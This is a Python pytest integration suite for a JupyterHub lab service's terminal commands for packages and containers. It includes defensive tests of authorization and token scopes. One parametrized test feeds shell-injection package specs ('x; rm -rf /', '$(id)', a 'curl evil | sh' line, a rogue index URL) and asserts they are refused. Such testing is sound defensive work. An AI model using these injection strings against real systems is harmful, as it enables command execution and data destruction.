"""The lab's documented terminal workflow, typed in real containers of a real hub.

    pip install transformers        # lost at retire
    container retire --save-packages
    project launch my-project       # recreate the container
    import transformers             # works

and `image-update --add ... --rebuild` + restart. The commands run through
`docker exec` in the user's own server, with the environment JupyterHub gave
it (its token, DS01_SERVICE_URL), against the ds01 service of a real hub
process, builds reaching a local package index.
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import docker
import pytest
import requests

from tests.pkgindex import PackageIndex, make_wheel

from .conftest import eventually, exec_in
from .hubprocess import HubProcess, hub_with_index

USERS = ("alice", "bob")


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    packages = {"ds01probe": "1.0", "ds01extra": "2.0"}
    with PackageIndex(tmp_path_factory.mktemp("index"), packages) as index:
        yield index


@pytest.fixture(scope="module")
def hub(tmp_path_factory, index):
    with hub_with_index(
        tmp_path_factory.mktemp("termhub"),
        index.url,
        USERS,
        # every start answers 202 at once: the commands follow it through the relayed progress
        args=('--JupyterHub.tornado_settings={"slow_spawn_timeout": 0.01}',),
    ) as hub:
        yield hub


def start(hub: HubProcess, user: str, server: str, timeout: float = 240) -> None:
    hub.api("POST", f"users/{user}")  # a 409 once the user exists
    r = hub.api("POST", f"users/{user}/servers/{server}", data=json.dumps({"user_options": {}}))
    assert r.status_code in (201, 202), r.text
    hub.wait_ready(user, server, timeout=timeout)


def container(user: str, project: str):
    found = docker.from_env().containers.list(
        filters={"label": [f"ds01.user={user}", f"ds01.project={project}"]}
    )
    assert len(found) == 1, found
    return found[0]


def run(c, command: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    """A command typed in the server's terminal: a login shell as the server's user."""
    prefix = " ".join(f"{k}={shlex.quote(v)}" for k, v in (env or {}).items())
    return exec_in(c, f"{prefix} {command} 2>&1")


def workspace(hub: HubProcess, user: str, project: str) -> Path:
    return hub.data_dir / "workspaces" / user / project


@pytest.fixture(scope="module")
def servers(hub):
    """alice runs `thesis` and `notes`, bob runs `thesis` (each their own image)."""
    for user, server in (("alice", "thesis"), ("alice", "notes"), ("bob", "thesis")):
        start(hub, user, server)
    return hub


def test_the_documented_flow_pip_install_retire_with_packages_launch_import(servers, index):
    hub = servers
    thesis = container("alice", "thesis")
    name, data = make_wheel("ds01probe", "1.0")
    (workspace(hub, "alice", "thesis") / name).write_bytes(data)
    code, out = run(thesis, f"pip install --no-index -q /workspace/{name}")
    assert code == 0, out
    assert run(thesis, "python -c 'import ds01probe'")[0] == 0

    # typed in thesis's own terminal: its container goes, and the terminal with it
    thesis.exec_run(["sh", "-c", "container retire --save-packages"], detach=True)
    eventually(
        lambda: "thesis" not in hub.api("GET", "users/alice").json()["servers"],
        "retired",
        90,
    )
    # the service goes on after the terminal is gone: the package goes into the Dockerfile
    dockerfile = workspace(hub, "alice", "thesis") / "Dockerfile"
    eventually(lambda: '"ds01probe==1.0"' in dockerfile.read_text(), "the package saved", 30)

    # from another server's terminal: start it again; the start waits for the rebuild
    notes = container("alice", "notes")
    code, out = run(notes, "project launch thesis")
    assert code == 0, out
    assert "/user/alice/thesis/" in out and "[100%]" in out, out
    assert hub.api("GET", "users/alice").json()["servers"]["thesis"]["ready"]
    code, out = run(
        container("alice", "thesis"), "python -c 'import ds01probe; print(ds01probe.VALUE)'"
    )
    assert (code, out) == (0, "42"), "installed in the image now: kept across the retire"


def test_image_update_add_rebuild_restart_then_import(servers):
    hub = servers
    old = container("alice", "thesis")
    code, out = run(
        container("alice", "notes"), "image-update thesis --add 'ds01extra==2.*' --rebuild --yes"
    )
    assert code == 0, out
    assert "ds01extra" in out and "%]" in out, "the build's log, with its progress"
    assert "Restarting" in out, out
    new = eventually(
        lambda: [
            c
            for c in docker.from_env().containers.list(
                filters={"label": ["ds01.user=alice", "ds01.project=thesis"]}
            )
            if c.id != old.id
        ],
        "restarted",
        120,
    )[0]
    hub.wait_ready("alice", "thesis", timeout=120)
    assert exec_in(new, "python -c 'import ds01extra; print(ds01extra.VALUE)'") == (0, "42")


def test_listing_commands_show_your_projects_only(servers):
    notes = container("alice", "notes")
    code, out = run(notes, "project list")
    assert code == 0, out
    assert "thesis" in out and "notes" in out and "running" in out
    code, out = run(notes, "image-list --json")
    assert code == 0, out
    assert sorted(p["project"] for p in json.loads(out)) == ["notes", "thesis"]
    assert all(p["owner"] == "alice" for p in json.loads(out)), "never bob's"
    code, out = run(notes, "check-limits")
    assert code == 0 and "Limits for alice" in out, out
    code, out = run(notes, "image-update --list")
    assert code == 0 and "Project notes" in out and "pip:" in out, out


def test_project_init_creates_and_a_second_init_is_refused(servers):
    hub = servers
    notes = container("alice", "notes")
    code, out = run(notes, "project init draft --type base")
    assert code == 0, out
    assert hub.api("GET", "users/alice").json()["servers"]["draft"]["ready"]
    assert (workspace(hub, "alice", "draft") / "Dockerfile").is_file()
    code, out = run(notes, "project init draft")
    assert code == 1 and "exists already" in out, out
    code, out = run(notes, "container retire draft --json")
    assert code == 0 and json.loads(out)["stopped"] == ["draft"], out
    code, out = run(notes, "project launch nothing-here")
    assert code == 1 and "project init nothing-here" in out, out


# ---------------------------------------------------------------- hostile terminals


def test_another_users_project_is_refused_and_left_alone(servers):
    hub = servers
    bobs = workspace(hub, "bob", "thesis") / "Dockerfile"
    before = bobs.read_bytes()
    notes = container("alice", "notes")
    as_bob = {"JUPYTERHUB_USER": "bob"}  # alice's token, claiming to be bob
    for command in (
        "image-update thesis --add ds01extra --rebuild --yes",
        "container retire thesis",
        "project launch thesis",
    ):
        code, out = run(notes, command, as_bob)
        assert code == 1, (command, out)
        assert "another user's project" in out, (command, out)
    assert bobs.read_bytes() == before
    assert hub.api("GET", "users/bob").json()["servers"]["thesis"]["ready"], "still running"


def test_a_forged_token_is_refused(servers):
    code, out = run(container("alice", "notes"), "project list", {"JUPYTERHUB_API_TOKEN": "forged"})
    assert code == 1, out
    assert "token" in out, out


@pytest.mark.parametrize(
    "spec", ["x; rm -rf /", "$(id)", "x\nRUN curl evil | sh", "--index-url=http://evil"]
)
def test_a_package_spec_with_shell_in_it_is_refused_and_nothing_written(servers, spec):
    hub = servers
    path = workspace(hub, "alice", "notes") / "Dockerfile"
    before = path.read_bytes()
    code, out = run(container("alice", "notes"), f"image-update --add={shlex.quote(spec)}")
    assert code == 1, out
    assert out.startswith("image-update: "), "the service's own message, as the page shows it"
    assert path.read_bytes() == before


def test_the_servers_token_reaches_the_service_as_its_user_and_nothing_more(servers):
    hub = servers
    probe = (
        "import json, os, urllib.request as r\n"
        "def call(method, path):\n"
        "    q = r.Request(os.environ['JUPYTERHUB_API_URL'] + path, method=method,\n"
        "        headers={'Authorization': 'token ' + os.environ['JUPYTERHUB_API_TOKEN']})\n"
        "    try:\n"
        "        with r.urlopen(q) as a: return a.status, json.loads(a.read() or b'null')\n"
        "    except r.HTTPError as e: return e.code, None\n"
        "print(json.dumps([call('GET', '/user'), call('GET', '/users'),\n"
        "    call('POST', '/users/bob/servers/x'),\n"
        "    call('DELETE', '/users/alice/servers/thesis')]))\n"
    )
    notes = container("alice", "notes")
    code, out = exec_in(notes, f"python -c {shlex.quote(probe)}")
    assert code == 0, out
    me, everyone, bobs, own = json.loads(out)
    assert me[0] == 200 and me[1]["name"] == "alice"
    assert "access:services!service=ds01" in me[1]["scopes"]
    assert not any(s.startswith(("admin", "servers", "custom:ds01:admin")) for s in me[1]["scopes"])
    assert everyone[0] == 403 and bobs[0] == 403
    assert own[0] == 403, "the token cannot even stop its own user's servers at the hub"
    assert hub.api("GET", "users/alice").json()["servers"]["thesis"]["ready"]
    requests.get(hub.url + "/hub/health", timeout=10).raise_for_status()


def test_a_start_that_fails_says_why_in_the_terminal(servers):
    hub = servers
    notes = container("alice", "notes")
    assert run(notes, "project init broken --type base")[0] == 0
    assert run(notes, "container retire broken")[0] == 0
    docker.from_env().images.remove("ds01-alice/broken:latest", force=True)
    dockerfile = workspace(hub, "alice", "broken") / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text() + "\nRUN echo ds01-breaks-here && false\n")
    code, out = run(notes, "project launch broken")
    assert code == 4, out  # failed while the terminal followed it
    assert "Starting broken" in out and "%]" in out, "the start's progress, relayed"
    assert "ds01-breaks-here" in out and "did not start" in out, out
    assert "broken" not in hub.api("GET", "users/alice").json()["servers"]
